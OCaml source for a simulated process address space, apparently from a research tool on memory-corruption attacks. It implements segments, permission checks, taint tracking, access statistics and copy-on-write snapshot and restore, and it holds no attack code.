        seg.Segment.perm <- fz.fz_perm;
        seg)
      snap.sn_segments
  in
  t.segments <- restored;
  t.trace_enabled <- snap.sn_trace_enabled;
  t.trace <- snap.sn_trace

(* ------------------------------------------------------------------ *)
(* Access accounting queries                                            *)

let total_reads t =
  List.fold_left (fun acc (_, r) -> acc + r.a_reads) 0 t.stats.by_kind

let total_writes t =
  List.fold_left (fun acc (_, r) -> acc + r.a_writes) 0 t.stats.by_kind

let total_taint_writes t =
  List.fold_left (fun acc (_, r) -> acc + r.a_taint_writes) 0 t.stats.by_kind

let total_faults t = t.stats.faults

let pp_stats ppf t =
  Fmt.pf ppf "@[<v>";
  List.iter
    (fun (k, r) ->
      if r.a_reads > 0 || r.a_writes > 0 then
        Fmt.pf ppf "%-5s  r=%-8d w=%-8d taint-w=%d@,"
          (Segment.kind_name k) r.a_reads r.a_writes r.a_taint_writes)
    t.stats.by_kind;
  Fmt.pf ppf "faults=%d@]" t.stats.faults

let pp ppf t =
  Fmt.pf ppf "@[<v>%a@]" (Fmt.list ~sep:Fmt.cut Segment.pp) (segments t)
