(** The simulated address space of a 32-bit little-endian process.

    This is the substrate every attack in the paper runs on: a set of
    disjoint segments (text/data/bss/heap/stack) with byte-level access,
    permission checks, and per-byte taint propagation. All multi-byte
    accesses are little-endian, matching the x86 Ubuntu system of the paper.

    Values of 32-bit words are represented as OCaml [int] in the range
    [0, 0xffff_ffff]; use {!to_signed32} for the signed view.

    Access model: every checked accessor has two equivalent
    implementations. The {e byte path} walks the access one byte at a
    time — full segment search, permission check, stats bump, observer
    and chaos dispatch, trace record per byte — and is the semantic
    reference. The {e fast path} services a multi-byte access in one
    step against the segment's backing [Bytes], and engages only when
    (a) no chaos hook, no observer and no write trace is armed, and
    (b) the whole range lies inside one segment with the required
    permission. Anything else — straddles, unmapped gaps, protection
    boundaries, armed hooks — falls back to the byte path, so fault
    constructors, fault addresses, sanitizer observations, taint
    propagation and chaos injection are bit-identical either way. *)

type write_record = { w_addr : int; w_len : int; w_tag : string }

(** Fault-injection hook: called on every checked byte access with the byte
    about to be moved; returns the byte actually moved (possibly perturbed)
    and may raise {!Fault.Fault} to model a spurious hardware trap. Loader
    pokes bypass it. *)
type chaos_hook = access:Fault.access -> addr:int -> byte:int -> int

(** Observation hook: called on every checked byte access after the
    permission check succeeds. Unlike {!chaos_hook} it cannot perturb the
    byte; the sanitizer uses it to classify accesses against its shadow
    map. Loader pokes and taint-metadata queries bypass it. *)
type access_hook = access:Fault.access -> addr:int -> taint:bool -> unit

(* Monotonic access accounting, one row per segment kind. Deliberately
   plain mutable ints: the accessors below are the simulator's hottest
   path and must not pay for atomics (a [t] is single-domain by
   construction — the service clones one per worker). Counters survive
   snapshot/restore: they describe what the simulator *did*, not what
   memory *contains*. *)
type access_stats = {
  mutable a_reads : int;
  mutable a_writes : int;
  mutable a_taint_writes : int;
}

type stats = {
  by_kind : (Segment.kind * access_stats) list;  (* all six kinds *)
  rows : access_stats array;  (* same rows, indexed by Segment.kind_index *)
  mutable faults : int;  (* unmapped + protection, any kind *)
  mutable trace_dropped : int;  (* write records evicted by the trace ring *)
}

let fresh_stats () =
  let rows =
    Array.init Segment.kind_count (fun _ ->
        { a_reads = 0; a_writes = 0; a_taint_writes = 0 })
  in
  {
    by_kind =
      List.map
        (fun k -> (k, rows.(Segment.kind_index k)))
        Segment.[ Text; Data; Bss; Heap; Stack; Mmap ];
    rows;
    faults = 0;
    trace_dropped = 0;
  }

(* The write trace is a bounded ring so long-running traced sessions
   cannot grow memory without bound: entries at [0, trace_len) while
   filling (oldest at 0), and once [trace_len = trace_cap] the oldest
   record sits at [trace_pos] and each new record overwrites it,
   counting a drop. *)
let default_trace_cap = 65_536

(* One frozen segment: identity (kind/base/size) plus deep copies of the
   mutable payload. The copies are private to the snapshot — [restore]
   only reads them and [snapshot] never aliases live arrays into them —
   so a snapshot stays valid however the live space is mutated, and its
   backing may be shared read-only between domains. *)
type frozen_segment = {
  fz_kind : Segment.kind;
  fz_base : int;
  fz_size : int;
  fz_perm : Perm.t;
  fz_bytes : Bytes.t;
  fz_taint : Bytes.t;
}

type snapshot = {
  sn_id : int;  (* globally unique sync token *)
  sn_segments : frozen_segment list;
  sn_trace_enabled : bool;
  sn_trace : write_record list;  (* retained ring contents, oldest first *)
}

(* Snapshot identities are global (not per-[t]) so that a snapshot taken
   on one address space and restored into another — the service's
   replica-thaw path — can never collide with a locally minted id. *)
let snap_ids = Atomic.make 0

type t = {
  mutable segments : Segment.t list;
  mutable hot : Segment.t option;  (* last segment hit by a checked access *)
  mutable trace_enabled : bool;
  mutable trace_cap : int;
  mutable trace_buf : write_record array;  (* grown on demand up to cap *)
  mutable trace_len : int;  (* live records, <= trace_cap *)
  mutable trace_pos : int;  (* oldest record once full; else 0 *)
  mutable chaos : chaos_hook option;
  mutable observer : access_hook option;
  mutable cow : bool;  (* false forces full-copy snapshot/restore *)
  mutable sync_id : int;
  (* 0, or the [sn_id] of the snapshot whose contents every *clean* page
     currently equals — the licence for dirty-only restores. Invalidated
     by [add_segment] (shape change) and by [set_cow]. *)
  mutable last_snap : snapshot option;
      (* the snapshot [sync_id] refers to, for clean-segment sharing *)
  stats : stats;
}

let word_size = 4

let create () =
  {
    segments = [];
    hot = None;
    trace_enabled = false;
    trace_cap = default_trace_cap;
    trace_buf = [||];
    trace_len = 0;
    trace_pos = 0;
    chaos = None;
    observer = None;
    cow = true;
    sync_id = 0;
    last_snap = None;
    stats = fresh_stats ();
  }

let cow_enabled t = t.cow

(* The E20 gate flips this off to force reference full-copy rewinds. *)
let set_cow t b =
  t.cow <- b;
  t.sync_id <- 0;
  t.last_snap <- None

let access_stats t = t.stats

let stats_row t kind = t.stats.rows.(Segment.kind_index kind)

let set_chaos t hook = t.chaos <- hook
let set_observer t hook = t.observer <- hook

let add_segment t seg =
  let overlaps s =
    seg.Segment.base < Segment.limit s && s.Segment.base < Segment.limit seg
  in
  if List.exists overlaps t.segments then
    invalid_arg "Vmem.add_segment: overlapping segment";
  t.segments <- seg :: t.segments;
  (* shape changed: existing snapshots no longer describe every segment *)
  t.sync_id <- 0;
  t.last_snap <- None;
  seg

let map t ~kind ~base ~size ~perm =
  add_segment t (Segment.create ~kind ~base ~size ~perm)

let segments t =
  List.sort (fun a b -> compare a.Segment.base b.Segment.base) t.segments

let find_segment t addr = List.find_opt (fun s -> Segment.contains s addr) t.segments

let segment_of_kind t kind =
  List.find_opt (fun s -> s.Segment.kind = kind) t.segments

(* ------------------------------------------------------------------ *)
(* Write tracing (bounded ring)                                        *)

let enable_trace t = t.trace_enabled <- true

let clear_trace t =
  t.trace_len <- 0;
  t.trace_pos <- 0

let trace t =
  if t.trace_len < t.trace_cap then
    Array.to_list (Array.sub t.trace_buf 0 t.trace_len)
  else
    List.init t.trace_len (fun i ->
        t.trace_buf.((t.trace_pos + i) mod t.trace_cap))

let trace_dropped t = t.stats.trace_dropped

(* Restock the ring from an oldest-first record list (restore,
   [set_trace_cap]); surplus beyond the cap is the oldest and drops. *)
let refill_trace t records =
  let n = List.length records in
  let surplus = max 0 (n - t.trace_cap) in
  let kept = if surplus > 0 then List.filteri (fun i _ -> i >= surplus) records
             else records in
  t.stats.trace_dropped <- t.stats.trace_dropped + surplus;
  t.trace_buf <- Array.of_list kept;
  t.trace_len <- List.length kept;
  t.trace_pos <- 0

let set_trace_cap t cap =
  if cap < 1 then invalid_arg "Vmem.set_trace_cap: cap must be positive";
  let records = trace t in
  t.trace_cap <- cap;
  refill_trace t records

let record_write t addr len tag =
  if t.trace_enabled then begin
    let r = { w_addr = addr; w_len = len; w_tag = tag } in
    if t.trace_len < t.trace_cap then begin
      if t.trace_len >= Array.length t.trace_buf then begin
        (* grow geometrically toward the cap *)
        let size = min t.trace_cap (max 64 (2 * Array.length t.trace_buf)) in
        let buf = Array.make size r in
        Array.blit t.trace_buf 0 buf 0 t.trace_len;
        t.trace_buf <- buf
      end;
      t.trace_buf.(t.trace_len) <- r;
      t.trace_len <- t.trace_len + 1
    end
    else begin
      t.trace_buf.(t.trace_pos) <- r;
      t.trace_pos <- (t.trace_pos + 1) mod t.trace_cap;
      t.stats.trace_dropped <- t.stats.trace_dropped + 1
    end
  end

(* ------------------------------------------------------------------ *)
(* Checked access: byte path                                           *)

(* Locate the segment for a checked access, enforcing permissions. The
   last segment hit is cached: segments are disjoint, so the cache can
   only ever return the same segment the full search would. *)
let checked t addr access =
  let seg =
    match t.hot with
    | Some s when Segment.contains s addr -> s
    | _ -> (
      match find_segment t addr with
      | Some s ->
        t.hot <- Some s;
        s
      | None ->
        t.stats.faults <- t.stats.faults + 1;
        Fault.raise_ (Fault.Unmapped (addr, access)))
  in
  let ok =
    match access with
    | Fault.Read -> seg.Segment.perm.Perm.read
    | Fault.Write -> seg.Segment.perm.Perm.write
    | Fault.Execute -> seg.Segment.perm.Perm.execute
  in
  if not ok then begin
    t.stats.faults <- t.stats.faults + 1;
    Fault.raise_ (Fault.Protection (addr, access))
  end;
  seg

let read_u8 t addr =
  let seg = checked t addr Fault.Read in
  let row = stats_row t seg.Segment.kind in
  row.a_reads <- row.a_reads + 1;
  (match t.observer with
  | None -> ()
  | Some f -> f ~access:Fault.Read ~addr ~taint:false);
  let b = Segment.get_byte seg addr in
  match t.chaos with
  | None -> b
  | Some f -> f ~access:Fault.Read ~addr ~byte:b land 0xff

let taint_of t addr =
  let seg = checked t addr Fault.Read in
  Segment.get_taint seg addr

let write_u8 ?(tag = "") ?(taint = false) t addr v =
  let seg = checked t addr Fault.Write in
  let row = stats_row t seg.Segment.kind in
  row.a_writes <- row.a_writes + 1;
  if taint then row.a_taint_writes <- row.a_taint_writes + 1;
  (match t.observer with
  | None -> ()
  | Some f -> f ~access:Fault.Write ~addr ~taint);
  let v =
    match t.chaos with
    | None -> v
    | Some f -> f ~access:Fault.Write ~addr ~byte:v land 0xff
  in
  Segment.set_byte seg addr v;
  Segment.set_taint seg addr taint;
  record_write t addr 1 tag

(* Multi-byte little-endian accessors, byte path. Each byte is checked
   individually so that an access straddling a segment boundary faults
   exactly where a real MMU would. *)

let read_uN t addr n =
  let rec go i acc =
    if i = n then acc
    else go (i + 1) (acc lor (read_u8 t (addr + i) lsl (8 * i)))
  in
  go 0 0

let write_uN ?(tag = "") ?(taint = false) t addr n v =
  for i = 0 to n - 1 do
    write_u8 ~tag ~taint t (addr + i) ((v lsr (8 * i)) land 0xff)
  done

(* ------------------------------------------------------------------ *)
(* Checked access: fast path                                           *)

(* The segment wholly containing [addr, addr+len) with [access]
   permitted, or [None]. Never raises and never counts a fault: callers
   fall back to the byte path, which faults (and counts) at exactly the
   byte a per-byte walk would reach. *)
let seg_span t addr len access =
  let seg =
    match t.hot with
    | Some s when Segment.contains s addr -> t.hot
    | _ -> (
      match find_segment t addr with
      | Some _ as s ->
        t.hot <- s;
        s
      | None -> None)
  in
  match seg with
  | Some s
    when addr + len <= Segment.limit s
         && (match access with
            | Fault.Read -> s.Segment.perm.Perm.read
            | Fault.Write -> s.Segment.perm.Perm.write
            | Fault.Execute -> s.Segment.perm.Perm.execute) ->
    seg
  | _ -> None

(* Fast-path gate: only when no chaos hook, no observer and no write
   trace is armed may an access skip the per-byte dispatch. *)
let[@inline] quiet t =
  t.chaos == None && t.observer == None && not t.trace_enabled

let[@inline] fast_span t addr len access =
  if quiet t then seg_span t addr len access else None

let[@inline] taint_char taint = if taint then '\001' else '\000'

let[@inline] bump_reads t (seg : Segment.t) n =
  let row = t.stats.rows.(Segment.kind_index seg.Segment.kind) in
  row.a_reads <- row.a_reads + n

let[@inline] bump_writes t (seg : Segment.t) n ~tainted =
  let row = t.stats.rows.(Segment.kind_index seg.Segment.kind) in
  row.a_writes <- row.a_writes + n;
  if tainted > 0 then row.a_taint_writes <- row.a_taint_writes + tainted

(* Shadow the byte-path [read_u8]/[write_u8] above with fast-span
   variants. The byte path stays the fallback — and the reference
   semantics — for straddles (impossible at width 1, but unmapped or
   protected bytes land there) and armed hooks. Accounting is
   identical: one read/write bump on the segment's row, taint splat,
   and no write record (the trace forces the byte path). *)
let read_u8_byte = read_u8
let write_u8_byte = write_u8

let read_u8 t addr =
  match fast_span t addr 1 Fault.Read with
  | Some seg ->
    bump_reads t seg 1;
    Char.code (Bytes.unsafe_get seg.Segment.bytes (addr - seg.Segment.base))
  | None -> read_u8_byte t addr

let write_u8 ?(tag = "") ?(taint = false) t addr v =
  match fast_span t addr 1 Fault.Write with
  | Some seg ->
    bump_writes t seg 1 ~tainted:(if taint then 1 else 0);
    let off = addr - seg.Segment.base in
    Bytes.unsafe_set seg.Segment.bytes off (Char.unsafe_chr (v land 0xff));
    Bytes.unsafe_set seg.Segment.taint off (taint_char taint);
    Segment.mark_dirty seg off 1
  | None -> write_u8_byte ~tag ~taint t addr v

let read_u16 t addr =
  match fast_span t addr 2 Fault.Read with
  | Some seg ->
    bump_reads t seg 2;
    Bytes.get_uint16_le seg.Segment.bytes (addr - seg.Segment.base)
  | None -> read_uN t addr 2

let write_u16 ?tag ?(taint = false) t addr v =
  match fast_span t addr 2 Fault.Write with
  | Some seg ->
    bump_writes t seg 2 ~tainted:(if taint then 2 else 0);
    let off = addr - seg.Segment.base in
    Bytes.set_uint16_le seg.Segment.bytes off v;
    Bytes.fill seg.Segment.taint off 2 (taint_char taint);
    Segment.mark_dirty seg off 2
  | None -> write_uN ?tag ~taint t addr 2 v

let read_u32 t addr =
  match fast_span t addr 4 Fault.Read with
  | Some seg ->
    bump_reads t seg 4;
    Int32.to_int (Bytes.get_int32_le seg.Segment.bytes (addr - seg.Segment.base))
    land 0xffffffff
  | None -> read_uN t addr 4

let write_u32 ?tag ?(taint = false) t addr v =
  match fast_span t addr 4 Fault.Write with
  | Some seg ->
    bump_writes t seg 4 ~tainted:(if taint then 4 else 0);
    let off = addr - seg.Segment.base in
    Bytes.set_int32_le seg.Segment.bytes off (Int32.of_int v);
    Bytes.fill seg.Segment.taint off 4 (taint_char taint);
    Segment.mark_dirty seg off 4
  | None -> write_uN ?tag ~taint t addr 4 (v land 0xffffffff)

let read_u64 t addr =
  match fast_span t addr 8 Fault.Read with
  | Some seg ->
    bump_reads t seg 8;
    Bytes.get_int64_le seg.Segment.bytes (addr - seg.Segment.base)
  | None ->
    let lo = Int64.of_int (read_uN t addr 4) in
    let hi = Int64.of_int (read_uN t (addr + 4) 4) in
    Int64.logor lo (Int64.shift_left hi 32)

let write_u64 ?tag ?(taint = false) t addr v =
  match fast_span t addr 8 Fault.Write with
  | Some seg ->
    bump_writes t seg 8 ~tainted:(if taint then 8 else 0);
    let off = addr - seg.Segment.base in
    Bytes.set_int64_le seg.Segment.bytes off v;
    Bytes.fill seg.Segment.taint off 8 (taint_char taint);
    Segment.mark_dirty seg off 8
  | None ->
    write_uN ?tag ~taint t addr 4 Int64.(to_int (logand v 0xffffffffL));
    write_uN ?tag ~taint t (addr + 4) 4
      Int64.(to_int (logand (shift_right_logical v 32) 0xffffffffL))

let read_f64 t addr = Int64.float_of_bits (read_u64 t addr)
let write_f64 ?tag ?taint t addr v = write_u64 ?tag ?taint t addr (Int64.bits_of_float v)

(* Loader-only writes: bypass permission checks so the machine can install
   read-only images (vtables, text stubs) before execution starts. *)

let poke_u8 t addr v =
  match find_segment t addr with
  | None -> Fault.raise_ (Fault.Unmapped (addr, Fault.Write))
  | Some seg -> Segment.set_byte seg addr v

let poke_u32 t addr v =
  for i = 0 to 3 do
    poke_u8 t (addr + i) ((v lsr (8 * i)) land 0xff)
  done

(* Bulk loader store: like [poke_u8] it bypasses permissions, hooks,
   stats and taint (existing taint is preserved). One blit when the
   range sits inside one segment; per-byte otherwise. *)
let poke_bytes t addr s =
  let len = String.length s in
  if len > 0 then
    match find_segment t addr with
    | Some seg when addr + len <= Segment.limit seg ->
      let off = addr - seg.Segment.base in
      Bytes.blit_string s 0 seg.Segment.bytes off len;
      Segment.mark_dirty seg off len
    | _ -> String.iteri (fun i c -> poke_u8 t (addr + i) (Char.code c)) s

let to_signed32 v = if v land 0x80000000 <> 0 then v - 0x100000000 else v
let of_signed32 v = v land 0xffffffff

let read_i32 t addr = to_signed32 (read_u32 t addr)
let write_i32 ?tag ?taint t addr v = write_u32 ?tag ?taint t addr (of_signed32 v)

(* Block operations: taint travels with the bytes. *)

(* No simulated segment is anywhere near this large, so a longer copy is
   guaranteed to walk off its segment and fault; stream it instead of
   materializing a buffer (an attacker-controlled size_t must not make the
   *simulator* allocate gigabytes). *)
let max_buffered_copy = 0x100000

let blit_bytepath ~tag t ~src ~dst ~len =
  if len <= max_buffered_copy then
    (* Copy via an intermediate buffer so overlapping ranges behave like
       memmove; overflow exploits in the paper never rely on memcpy-style
       overlap corruption. *)
    let buf = Array.init len (fun i -> (read_u8 t (src + i), taint_of t (src + i))) in
    Array.iteri (fun i (b, tn) -> write_u8 ~tag ~taint:tn t (dst + i) b) buf
  else
    for i = 0 to len - 1 do
      let b = read_u8 t (src + i) and tn = taint_of t (src + i) in
      write_u8 ~tag ~taint:tn t (dst + i) b
    done

let blit ?(tag = "blit") t ~src ~dst ~len =
  let spans =
    if len > 0 && quiet t then
      match seg_span t src len Fault.Read with
      | Some sseg -> (
        match seg_span t dst len Fault.Write with
        | Some dseg -> Some (sseg, dseg)
        | None -> None)
      | None -> None
    else None
  in
  match spans with
  | Some (sseg, dseg) ->
    let soff = src - sseg.Segment.base and doff = dst - dseg.Segment.base in
    (* Bytes.blit is memmove: both copies tolerate src/dst overlap inside
       one segment, matching the buffered byte path. *)
    Bytes.blit sseg.Segment.bytes soff dseg.Segment.bytes doff len;
    Bytes.blit sseg.Segment.taint soff dseg.Segment.taint doff len;
    Segment.mark_dirty dseg doff len;
    let tainted = ref 0 in
    for i = doff to doff + len - 1 do
      if Bytes.unsafe_get dseg.Segment.taint i <> '\000' then incr tainted
    done;
    bump_reads t sseg len;
    bump_writes t dseg len ~tainted:!tainted
  | None -> blit_bytepath ~tag t ~src ~dst ~len

let fill ?(tag = "fill") ?(taint = false) t ~dst ~len v =
  match fast_span t dst len Fault.Write with
  | Some seg when len > 0 ->
    bump_writes t seg len ~tainted:(if taint then len else 0);
    let off = dst - seg.Segment.base in
    Bytes.fill seg.Segment.bytes off len (Char.chr (v land 0xff));
    Bytes.fill seg.Segment.taint off len (taint_char taint);
    Segment.mark_dirty seg off len
  | _ ->
    for i = 0 to len - 1 do
      write_u8 ~tag ~taint t (dst + i) v
    done

let write_bytes ?(tag = "blit") ?(taint = false) t addr s =
  let len = String.length s in
  match fast_span t addr len Fault.Write with
  | Some seg when len > 0 ->
    bump_writes t seg len ~tainted:(if taint then len else 0);
    let off = addr - seg.Segment.base in
    Bytes.blit_string s 0 seg.Segment.bytes off len;
    Bytes.fill seg.Segment.taint off len (taint_char taint);
    Segment.mark_dirty seg off len
  | _ -> String.iteri (fun i c -> write_u8 ~tag ~taint t (addr + i) (Char.code c)) s

let write_string ?(tag = "str") ?taint t addr s = write_bytes ~tag ?taint t addr s

(* Read a NUL-terminated C string, bounded to avoid walking the whole
   address space on corrupted data. *)
let read_cstring_bytepath ~max_len t addr =
  let buf = Buffer.create 16 in
  let rec go i =
    if i >= max_len then Buffer.contents buf
    else
      match read_u8 t (addr + i) with
      | 0 -> Buffer.contents buf
      | b ->
        Buffer.add_char buf (Char.chr b);
        go (i + 1)
  in
  go 0

let read_cstring ?(max_len = 4096) t addr =
  if max_len <= 0 then ""
  else
    match fast_span t addr 1 Fault.Read with
    | Some seg ->
      let off = addr - seg.Segment.base in
      let avail = min max_len (seg.Segment.size - off) in
      let bytes = seg.Segment.bytes in
      let rec nul_at j =
        if j >= avail then -1
        else if Bytes.unsafe_get bytes (off + j) = '\000' then j
        else nul_at (j + 1)
      in
      (match nul_at 0 with
      | d when d >= 0 ->
        (* the terminating NUL is read (and counted) but not returned *)
        bump_reads t seg (d + 1);
        Bytes.sub_string bytes off d
      | _ when avail >= max_len ->
        bump_reads t seg max_len;
        Bytes.sub_string bytes off max_len
      | _ ->
        (* no NUL before the segment ends: the byte path decides whether
           the walk continues into an adjacent segment or faults *)
        read_cstring_bytepath ~max_len t addr)
    | None -> read_cstring_bytepath ~max_len t addr

(* Buffer-based so that an attacker-controlled length faults at the segment
   boundary instead of asking the host for a multi-gigabyte string. *)
let read_bytes t addr len =
  match fast_span t addr len Fault.Read with
  | Some seg when len > 0 ->
    bump_reads t seg len;
    Bytes.sub_string seg.Segment.bytes (addr - seg.Segment.base) len
  | _ ->
    let b = Buffer.create (max 16 (min len 4096)) in
    for i = 0 to len - 1 do
      Buffer.add_char b (Char.chr (read_u8 t (addr + i)))
    done;
    Buffer.contents b

(* Taint queries used by attack drivers to prove corruption provenance.
   These bypass hooks and accounting by design, so the fast scan only
   needs the range to sit inside one readable segment. *)

let range_tainted t addr len =
  match seg_span t addr len Fault.Read with
  | Some seg when len > 0 ->
    let off = addr - seg.Segment.base in
    let taint = seg.Segment.taint in
    let rec go i =
      i < len && (Bytes.unsafe_get taint (off + i) <> '\000' || go (i + 1))
    in
    go 0
  | _ ->
    let rec go i = i < len && (taint_of t (addr + i) || go (i + 1)) in
    go 0

let tainted_bytes t addr len =
  match seg_span t addr len Fault.Read with
  | Some seg when len > 0 ->
    let off = addr - seg.Segment.base in
    let taint = seg.Segment.taint in
    let n = ref 0 in
    for i = 0 to len - 1 do
      if Bytes.unsafe_get taint (off + i) <> '\000' then incr n
    done;
    !n
  | _ ->
    let n = ref 0 in
    for i = 0 to len - 1 do
      if taint_of t (addr + i) then incr n
    done;
    !n

(* Combined scalar reads: value and taint in one segment resolution.
   The scalar engines load a value and then ask whether any contributing
   byte was tainted — done naively that resolves the segment twice per
   load. The fast path here requires the same conditions as [fast_span]
   (quiet memory, one spanning segment) and performs exactly the same
   accounting as [read_uN]+[range_tainted] would: reads bumped by [len],
   taint scanned without accounting. Anything else falls back to those
   two calls in the order the engines always made them (taint query
   first — it bypasses hooks — then the checked read). *)

let read_u8_taint t addr =
  match fast_span t addr 1 Fault.Read with
  | Some seg ->
    bump_reads t seg 1;
    let off = addr - seg.Segment.base in
    (Char.code (Bytes.unsafe_get seg.Segment.bytes off) lsl 1)
    lor (if Bytes.unsafe_get seg.Segment.taint off <> '\000' then 1 else 0)
  | None ->
    let tainted = range_tainted t addr 1 in
    (read_u8 t addr lsl 1) lor (if tainted then 1 else 0)

let read_u16_taint t addr =
  match fast_span t addr 2 Fault.Read with
  | Some seg ->
    bump_reads t seg 2;
    let off = addr - seg.Segment.base in
    let taint = seg.Segment.taint in
    (Bytes.get_uint16_le seg.Segment.bytes off lsl 1)
    lor
    (if
       Bytes.unsafe_get taint off <> '\000'
       || Bytes.unsafe_get taint (off + 1) <> '\000'
     then 1
     else 0)
  | None ->
    let tainted = range_tainted t addr 2 in
    (read_u16 t addr lsl 1) lor (if tainted then 1 else 0)

let read_u32_taint t addr =
  match fast_span t addr 4 Fault.Read with
  | Some seg ->
    bump_reads t seg 4;
    let off = addr - seg.Segment.base in
    let taint = seg.Segment.taint in
    (Int32.to_int (Bytes.get_int32_le seg.Segment.bytes off)
     land 0xffffffff)
    lsl 1
    lor
    (if
       Bytes.unsafe_get taint off <> '\000'
       || Bytes.unsafe_get taint (off + 1) <> '\000'
       || Bytes.unsafe_get taint (off + 2) <> '\000'
       || Bytes.unsafe_get taint (off + 3) <> '\000'
     then 1
     else 0)
  | None ->
    let tainted = range_tainted t addr 4 in
    (read_u32 t addr lsl 1) lor (if tainted then 1 else 0)

let read_f64_taint t addr =
  match fast_span t addr 8 Fault.Read with
  | Some seg ->
    bump_reads t seg 8;
    let off = addr - seg.Segment.base in
    let taint = seg.Segment.taint in
    let rec any i = i < 8 && (Bytes.unsafe_get taint (off + i) <> '\000' || any (i + 1)) in
    (Int64.float_of_bits (Bytes.get_int64_le seg.Segment.bytes off), any 0)
  | None ->
    let tainted = range_tainted t addr 8 in
    (read_f64 t addr, tainted)

let set_taint t addr len tainted =
  match seg_span t addr len Fault.Read with
  | Some seg when len > 0 ->
    let off = addr - seg.Segment.base in
    Bytes.fill seg.Segment.taint off len (taint_char tainted);
    Segment.mark_dirty seg off len
  | _ ->
    for i = 0 to len - 1 do
      let seg = checked t (addr + i) Fault.Read in
      Segment.set_taint seg (addr + i) tainted
    done

(* ------------------------------------------------------------------ *)
(* Snapshot / restore                                                   *)

(* [t.sync_id = snap.sn_id] licences dirty-only rewinds. The invariant it
   certifies: every page not marked dirty holds exactly the bytes (and
   taint) the snapshot froze. It is established whenever live contents
   and a snapshot's contents are known equal — right after [snapshot]
   (the copy just happened) and right after [restore] (the blit just
   happened) — and every write path above marks the pages it touches, so
   the invariant is maintained until the shape changes ([add_segment]
   clears the token) or a different snapshot is restored (id mismatch
   forces the full path, which re-syncs). *)

let fz_of_segment (s : Segment.t) =
  {
    fz_kind = s.Segment.kind;
    fz_base = s.Segment.base;
    fz_size = s.Segment.size;
    fz_perm = s.Segment.perm;
    fz_bytes = Bytes.copy s.Segment.bytes;
    fz_taint = Bytes.copy s.Segment.taint;
  }

let[@inline] same_identity (s : Segment.t) fz =
  s.Segment.base = fz.fz_base
  && s.Segment.size = fz.fz_size
  && s.Segment.kind = fz.fz_kind

(* Mark every segment clean and record [snap] as the sync point. *)
let sync_to t snap =
  if t.cow then begin
    List.iter Segment.clear_dirty t.segments;
    t.sync_id <- snap.sn_id;
    t.last_snap <- Some snap
  end

let snapshot t =
  let shared =
    (* Clean segments are byte-identical to the sync snapshot's frozen
       copies, and frozen arrays are immutable — share them instead of
       recopying. Permissions are not dirty-tracked, so the current word
       is recorded explicitly. *)
    match t.last_snap with
    | Some prev when t.cow && t.sync_id <> 0 && prev.sn_id = t.sync_id ->
      fun (s : Segment.t) ->
        if s.Segment.dirty_any then None
        else
          (match List.find_opt (same_identity s) prev.sn_segments with
          | Some fz -> Some { fz with fz_perm = s.Segment.perm }
          | None -> None)
    | _ -> fun _ -> None
  in
  let snap =
    {
      sn_id = 1 + Atomic.fetch_and_add snap_ids 1;
      sn_segments =
        List.map
          (fun (s : Segment.t) ->
            match shared s with
            | Some fz -> fz
            | None -> fz_of_segment s)
          t.segments;
      sn_trace_enabled = t.trace_enabled;
      sn_trace = trace t;
    }
  in
  sync_to t snap;
  snap

(* Restore contents, taint, permissions and trace state to the snapshot.
   Segments mapped after the snapshot are unmapped again; segments present
   at snapshot time are restored *in place*, so references held elsewhere
   (the heap allocator, attack checks) stay valid. The chaos hook is
   deliberately untouched: it is runtime configuration, not memory state.

   When the sync token matches the snapshot, only dirty page runs are
   blitted; the full-copy path below is the semantic reference and the
   fallback for everything else (foreign snapshots, shape changes, COW
   disabled). *)

let restore_full t snap =
  let live = t.segments in
  let restored =
    List.map
      (fun fz ->
        let seg =
          match List.find_opt (fun s -> same_identity s fz) live with
          | Some s -> s
          | None ->
            Segment.create ~kind:fz.fz_kind ~base:fz.fz_base ~size:fz.fz_size
              ~perm:fz.fz_perm
        in
        Bytes.blit fz.fz_bytes 0 seg.Segment.bytes 0 fz.fz_size;
        Bytes.blit fz.fz_taint 0 seg.Segment.taint 0 fz.fz_size;
        seg.Segment.perm <- fz.fz_perm;
        seg)
      snap.sn_segments
  in
  t.segments <- restored;
  (* the cached segment may have been mapped after the snapshot *)
  t.hot <- None;
  t.trace_enabled <- snap.sn_trace_enabled;
  refill_trace t snap.sn_trace;
  sync_to t snap

(* Defensive: the sync token should already guarantee alignment (only
   [restore]/[snapshot] set it and [add_segment] clears it), but a
   mismatch must degrade to the full path, never corrupt. *)
let rec aligned segs fzs =
  match (segs, fzs) with
  | [], [] -> true
  | (s : Segment.t) :: ss, fz :: fs -> same_identity s fz && aligned ss fs
  | _ -> false

let restore t snap =
  if t.cow && t.sync_id = snap.sn_id && t.sync_id <> 0
     && aligned t.segments snap.sn_segments
  then begin
    List.iter2
      (fun (s : Segment.t) fz ->
        s.Segment.perm <- fz.fz_perm;
        if s.Segment.dirty_any then begin
          Segment.iter_dirty_runs s (fun off len ->
              Bytes.blit fz.fz_bytes off s.Segment.bytes off len;
              Bytes.blit fz.fz_taint off s.Segment.taint off len);
          Segment.clear_dirty s
        end)
      t.segments snap.sn_segments;
    (* the segment list is unchanged, so [t.hot] stays valid *)
    t.trace_enabled <- snap.sn_trace_enabled;
    if t.trace_len > 0 || snap.sn_trace <> [] then refill_trace t snap.sn_trace;
    t.last_snap <- Some snap
  end
  else restore_full t snap

(* ------------------------------------------------------------------ *)
(* Access accounting queries                                            *)

let total_reads t =
  List.fold_left (fun acc (_, r) -> acc + r.a_reads) 0 t.stats.by_kind

let total_writes t =
  List.fold_left (fun acc (_, r) -> acc + r.a_writes) 0 t.stats.by_kind

let total_taint_writes t =
  List.fold_left (fun acc (_, r) -> acc + r.a_taint_writes) 0 t.stats.by_kind

let total_faults t = t.stats.faults

let pp_stats ppf t =
  Fmt.pf ppf "@[<v>";
  List.iter
    (fun (k, r) ->
      if r.a_reads > 0 || r.a_writes > 0 then
        Fmt.pf ppf "%-5s  r=%-8d w=%-8d taint-w=%d@,"
          (Segment.kind_name k) r.a_reads r.a_writes r.a_taint_writes)
    t.stats.by_kind;
  Fmt.pf ppf "faults=%d@]" t.stats.faults

let pp ppf t =
  Fmt.pf ppf "@[<v>%a@]" (Fmt.list ~sep:Fmt.cut Segment.pp) (segments t)
