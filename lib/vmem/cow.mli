(** Copy-on-write building blocks shared by the snapshot layers:
    process-wide generation tokens and page-granular dirty bitmaps. *)

val fresh_gen : unit -> int
(** Mint a globally unique, never-zero generation token. Mint one at
    every mutation of a versioned structure and record it in snapshots;
    token equality then proves the structure is unchanged since the
    snapshot, because no token is ever paired with two states — across
    machines and domains (the counter is process-wide and atomic). *)

module Bitmap : sig
  type t

  val page_shift : int
